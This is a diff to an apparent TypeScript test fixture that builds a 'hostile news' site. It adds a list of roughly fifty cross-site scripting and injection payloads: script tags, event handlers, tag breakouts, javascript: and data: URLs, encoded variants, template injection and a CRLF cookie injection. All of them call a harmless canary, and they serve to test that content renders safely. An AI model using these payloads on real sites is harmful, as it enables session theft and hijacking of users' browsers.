@@ -1,6 +1,5 @@
 import type { ServerResponse } from 'node:http'
 import { createHandlerSite, type HandlerSite } from '../site/handler-site.ts'
-import { attackStrings } from './attack-strings.ts'
 
 /** A site whose content attacks its viewers. It has a second edition, so that there is something to compare. */
 export type HostileNews = {
@@ -20,7 +19,7 @@ export type HostileNews = {
 
 type Answer = { status?: number; reason?: string; headers?: Record<string, string>; body: string }
 
-export const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
+const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
 /** Part of every text on the site. */
 export const WORD = 'tangerine'
 
@@ -136,3 +135,71 @@ export async function createHostileNews(): Promise<HostileNews> {
     close: site.close,
   }
 }
+
+/**
+ * Payloads for pages, titles, headers, names and URLs that try to run where they are shown. Each calls `__hit`, requests
+ * CANARY (filled in by the caller) or opens a dialog; none may succeed.
+ */
+const attackStrings: readonly string[] = [
+  // Elements that execute.
+  `<script>__hit('script')</script>`,
+  `<script src="CANARY/script.js"></script>`,
+  `<ScRiPt >__hit('case')</sCrIpT >`,
+  `<scr<script>ipt>__hit('nested')</scr</script>ipt>`,
+  `<svg><script>__hit('svg script')</script></svg>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=__hit('mutated')>`,
+  `<noscript><p title="</noscript><img src=x onerror=__hit('noscript')>">`,
+  `<template><img src=x onerror=__hit('template')></template>`,
+  // Handlers.
+  `<img src=x onerror=__hit('img')>`,
+  `<svg/onload=__hit('svg')>`,
+  `<svg><animate onbegin=__hit('animate') attributeName=x dur=1s>`,
+  `<body onload=__hit('body') onpageshow=__hit('pageshow')>`,
+  `<details open ontoggle=__hit('details')>`,
+  `<input autofocus onfocus=__hit('focus')>`,
+  `<video><source onerror=__hit('video')></video>`,
+  `<audio src=x onerror=__hit('audio')>`,
+  `<marquee onstart=__hit('marquee')>`,
+  `<div style="animation:x 1s" onanimationstart=__hit('animation') onpointerover=__hit('over')>`,
+  `<img src=x onerror=alert('dialog')>`,
+  // Breaking out of text.
+  `"><img src=x onerror=__hit('quote')>`,
+  `'><img src=x onerror=__hit('apostrophe')>`,
+  `" autofocus onfocus="__hit('attribute')`,
+  "` onmouseover=__hit('backtick') `",
+  `</title><script>__hit('title')</script>`,
+  `</textarea><script>__hit('textarea')</script>`,
+  `</style><script>__hit('style')</script>`,
+  `--><script>__hit('comment')</script><!--`,
+  `]]><script xmlns="http://www.w3.org/1999/xhtml">__hit('cdata')</script>`,
+  `</pre></td></table><script>__hit('table')</script>`,
+  `');__hit('call');('`,
+  // Frames, loads and navigation.
+  `<iframe srcdoc="<script>parent.__hit('srcdoc')</script>"></iframe>`,
+  `<iframe src="javascript:parent.__hit('frame')"></iframe>`,
+  `<object data="data:text/html,<script>__hit('object')</script>"></object>`,
+  `<embed src="CANARY/embed.swf">`,
+  `<link rel=stylesheet href="CANARY/link.css"><link rel=prefetch href="CANARY/prefetch">`,
+  `<style>@import "CANARY/import.css"; body{background:url(CANARY/background.png)}</style>`,
+  `<meta http-equiv=refresh content="0;url=CANARY/refresh">`,
+  `<base href="CANARY/base/"><img src=relative.png>`,
+  `<form action="CANARY/form"><button autofocus onfocus=form.submit()>Go</button></form>`,
+  `<a href="javascript:__hit('link')" target=_top>javascript link</a>`,
+  `<a href="data:text/html,<script>__hit('data')</script>">data link</a>`,
+  `<img src="CANARY/pixel.gif" srcset="CANARY/pixel-2.gif 2x">`,
+  `<?xml-stylesheet type="text/xsl" href="CANARY/style.xsl"?>`,
+  // Other encodings.
+  `&lt;script&gt;__hit('entity')&lt;/script&gt;`,
+  `&#60;img src=x onerror=__hit('number')&#62;`,
+  `%3Cscript%3E__hit('percent')%3C/script%3E`,
+  `\\u003cscript\\u003e__hit('escape')\\u003c/script\\u003e`,
+  `+ADw-script+AD4-__hit('utf7')+ADw-/script+AD4-`,
+  `javascript:__hit('address')`,
+  `data:text/html;base64,PHNjcmlwdD5fX2hpdCgnYmFzZTY0Jyk8L3NjcmlwdD4=`,
+  // Templates, prototypes, line breaks, text direction.
+  `{{constructor.constructor('__hit()')()}}`,
+  `\${__hit('literal')}`,
+  `__proto__`,
+  `invoice \u202Egpj.exe\u202C of \u2066<b>today</b>\u2069`,
+  `a%0d%0aSet-Cookie: erace_session=stolen%0d%0a%0d%0a<script>__hit('crlf')</script>`,
+]
